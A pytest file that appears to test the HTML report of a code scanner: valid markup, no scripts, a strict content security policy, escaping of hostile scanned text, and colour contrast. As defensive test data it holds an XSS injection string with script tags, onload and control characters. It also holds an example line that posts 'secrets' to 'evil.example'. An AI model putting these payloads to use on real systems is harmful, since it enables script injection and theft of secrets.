"""report.html: sound as a document, safe whatever the scanned files hold, readable by everybody."""

from __future__ import annotations

import hashlib
import re
import unicodedata
from base64 import b64encode
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path

import pytest

from gk_hooks.model.records import replace
from gk_hooks.reports import FORMATS, page
from tests.reports.sample import FULL, ODD, RULES, SAMPLES, result

VOID = {"meta", "input"}
STYLE = (Path(page.__file__).parent / "style.css").read_text(encoding="utf-8")


class Document(HTMLParser):
    """A document as a list of (tag, attributes) and its text; AssertionError where an element is not closed."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self._open: list[str] = []
        self.feed(markup)
        self.close()
        assert self._open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in VOID:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        if self._open[-1:] != ["style"]:
            self.text += data

    def values(self, attribute: str) -> list[str]:
        return [attributes[attribute] for _, attributes in self.elements if attribute in attributes]


def rendered(report=FULL) -> str:
    return FORMATS["html"].render(report, RULES)


@pytest.mark.parametrize("sample", SAMPLES)
def test_the_document_is_sound(sample):
    document = Document(rendered(SAMPLES[sample]))
    ids = document.values("id")
    assert len(ids) == len(set(ids))
    assert {target.removeprefix("#") for target in document.values("href")} <= {*ids}
    assert {*document.values("for"), *document.values("aria-labelledby")} <= {*ids}
    levels = [int(tag[1]) for tag, _ in document.elements if re.fullmatch(r"h[1-6]", tag)]
    assert levels[0] == 1
    assert all(deeper - level <= 1 for level, deeper in pairwise(levels))
    assert {"main", "nav", "header", "footer"} <= {tag for tag, _ in document.elements}


@pytest.mark.parametrize("sample", SAMPLES)
def test_it_needs_no_script_and_no_other_file(sample):
    markup = rendered(SAMPLES[sample])
    document = Document(markup)
    assert not {tag for tag, _ in document.elements} & {"script", "link", "img", "iframe", "object", "base", "template"}
    names = {name for _, attributes in document.elements for name in attributes}
    assert not {name for name in names if name.startswith("on")} | names & {"src", "srcset", "style", "action"}
    assert all(target.startswith("#") for target in document.values("href"))
    assert "url(" not in markup.split("</style>")[0]
    assert "@import" not in markup


def test_the_policy_allows_this_style_and_nothing_else():
    markup = rendered()
    style = markup.split("<style>")[1].split("</style>")[0]
    digest = b64encode(hashlib.sha256(style.encode()).digest()).decode()
    [policy] = [each["content"] for _, each in Document(markup).elements if "http-equiv" in each]
    assert policy == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    assert markup.index("http-equiv") < markup.index("<style>")


HOSTILE = "</pre></style><script>alert(1)</script>\" onload='x' \u202e\x1b[2J\u200b&lt;\udce9{0}"


def test_whatever_is_scanned_is_shown_as_text():
    odd = result(
        *("NET001", HOSTILE, (1, 1, 1, 9), HOSTILE),
        callee=HOSTILE,
        excerpt=HOSTILE,
        chain=(HOSTILE,),
        destination=HOSTILE,
        command=HOSTILE,
        why_new=HOSTILE,
    )
    odd = replace(odd, hunks=("+" + HOSTILE,))
    tame = replace(FULL, results=(odd,), sources={(HOSTILE, 1): HOSTILE}, root_path="/" + HOSTILE, target=HOSTILE)
    markup = rendered(tame)
    document = Document(markup)
    assert {tag for tag, _ in document.elements} <= {tag for tag, _ in Document(rendered()).elements}
    assert "</pre></style><script>alert(1)</script>\" onload='x' \\u202e\\x1b[2J\\u200b&lt;\\xe9{0}" in document.text
    acting = {char for char in markup if unicodedata.category(char) in ("Cc", "Cf", "Cs", "Co", "Cn")}
    assert acting <= {"\n", "\t"}


def test_escapes_are_told_from_text_that_looks_like_one():
    shown = Document(rendered(replace(FULL, target="\u202e or \\u202e")))
    assert ("b", {"class": "odd", "title": "U+202E"}) in shown.elements
    assert "\\u202e or \\u202e" in shown.text


def test_the_decision_comes_first_then_what_to_do_then_the_findings():
    text = Document(rendered()).text
    order = [
        "FAIL4 findings of behavior",
        "Do not use this code as it is.",
        "Coverage: 8 files in scope",
        "#1 docs/a|b",
    ]
    assert [text.index(words) for words in order] == sorted(text.index(words) for words in order)


@pytest.mark.parametrize("part", ("What was scanned", "Network evidence", "Limitations", "Identity", "Run"))
def test_the_sections_of_the_markdown_report_are_there(part):
    assert f'<h2 id="{part.lower().replace(" ", "-")}-title">{part}</h2>' in rendered()


def test_a_frame_marks_the_exact_expression_after_the_way_of_its_value():
    frame = next(frame for frame in re.findall(r'<pre class="frame">.*?</pre>', rendered()) if "secrets" in frame)
    assert frame == (
        '<pre class="frame">'
        '<code class="step" data-n="3">url = &#x27;https://evil.example/{…}&#x27;</code>'
        '<code class="step" data-n="9">send(url)</code>'
        '<code data-n="12">    <mark>requests.post(url, data=secrets, timeout=3)</mark></code>'
        "</pre>"
    )


def test_a_long_line_is_cut_around_the_expression():
    far = result("NET001", "a.py", (1, 5001, 1, 5005), "x")
    report = replace(FULL, results=(far,), sources={("a.py", 1): "a" * 5000 + "call" + "b" * 5000})
    assert f'<code data-n="1">…{"a" * 160}<mark>call</mark>{"b" * 160}…</code>' in rendered(report)


@pytest.mark.parametrize("sample", ("full", "since"))
def test_every_control_has_a_rule_and_what_it_hides_exists(sample):
    markup = rendered(SAMPLES[sample])
    document = Document(markup)
    classes = {name for value in document.values("class") for name in value.split()}
    rules = re.findall(r"^body:has\(#([\w-]+)(?::not\()?:checked\)*(?: (.+))\{display:none\}$", markup, re.MULTILINE)
    controls = {each["id"] for tag, each in document.elements if tag == "input"}
    assert {control for control, _ in rules} == {control for control in controls if not control.endswith("-all")}
    named = {name for _, selector in rules for name in re.findall(r"\.([\w-]+)", selector)}
    assert named <= classes


@pytest.mark.parametrize(
    ("sample", "checked"),
    (
        pytest.param("full", "status-counted", id="a full scan shows what counts"),
        pytest.param("since", "status-new", id="a change shows what is new"),
    ),
)
def test_what_counts_is_shown_first(sample, checked):
    inputs = [each for tag, each in Document(rendered(SAMPLES[sample])).elements if tag == "input"]
    assert [each["id"] for each in inputs if each["name"] == "status" and "checked" in each] == [checked]


def test_only_the_section_run_differs_between_two_runs():
    again = replace(FULL, run=replace(FULL.run, started_at="2027", finished_at="2027", duration_ms=1, hostname="b"))
    first, second = (
        re.sub(r'<section id="run".*?</section>', "", rendered(each), flags=re.S) for each in (FULL, again)
    )
    assert first == second
    assert rendered(FULL) != rendered(again)


def test_names_of_files_are_shown_with_their_odd_characters():
    assert "docs/a|b`c<img src=x>\\x1b[31m\\u202egnp.py:1:6" in Document(rendered()).text
    assert ODD not in rendered()


# --- contrast, after WCAG 2.2 (1.4.3: text needs 4.5 to 1)

ON_PAPER = ("ink", "soft", "link", "blocker", "high", "medium", "low", "info", "good")
PAIRS = (
    *((name, "paper") for name in ON_PAPER),
    *((name, "sheet") for name in ("ink", "soft", "link")),
    *(("paper", name) for name in ("ink", "blocker", "high", "medium", "low", "info", "good")),
    *((name, f"{name}-wash") for name in ("blocker", "high", "good")),
    *(("ink", name) for name in ("blocker-wash", "high-wash", "good-wash", "mark", "odd")),
)


def luminance(color: str) -> float:
    digits = color * 2 if len(color) == 3 else color
    parts = [int(digits[index : index + 2], 16) / 255 for index in (0, 2, 4)]
    linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


@pytest.mark.parametrize("theme", (0, 1, 2), ids=("light", "dark", "print"))
@pytest.mark.parametrize("pair", PAIRS, ids=" on ".join)
def test_text_stands_out_from_what_it_stands_on(theme, pair):
    themes = [
        dict(re.findall(r"--([\w-]+): #([0-9a-f]+);", block)) for block in re.findall(r":root \{(.*?)\}", STYLE, re.S)
    ]
    light, dark = sorted((luminance(themes[theme][name]) for name in pair), reverse=True)
    assert (light + 0.05) / (dark + 0.05) >= 4.5
